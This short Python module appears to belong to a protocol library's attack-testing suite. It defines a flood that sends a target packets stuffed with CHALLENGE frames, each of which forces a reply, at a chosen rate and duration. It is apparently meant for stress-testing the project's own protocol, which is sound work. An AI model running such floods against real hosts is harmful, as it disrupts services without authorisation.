"""Packets full of CHALLENGE frames, each of which wants an answer."""

from __future__ import annotations

import os

from attacks.stranger import Address, Counts, flood
from lanline.proto.link.frames import encode_challenge

IN_ONE_PACKET = 32


def attack(address: Address, stop_after_s: float, bits_per_s: float, *, frames_each: int = IN_ONE_PACKET) -> Counts:
    def payload() -> bytes:
        return b"".join(encode_challenge(os.urandom(8)) for _ in range(frames_each))

    return flood(address, stop_after_s, bits_per_s, payload, frames_each)
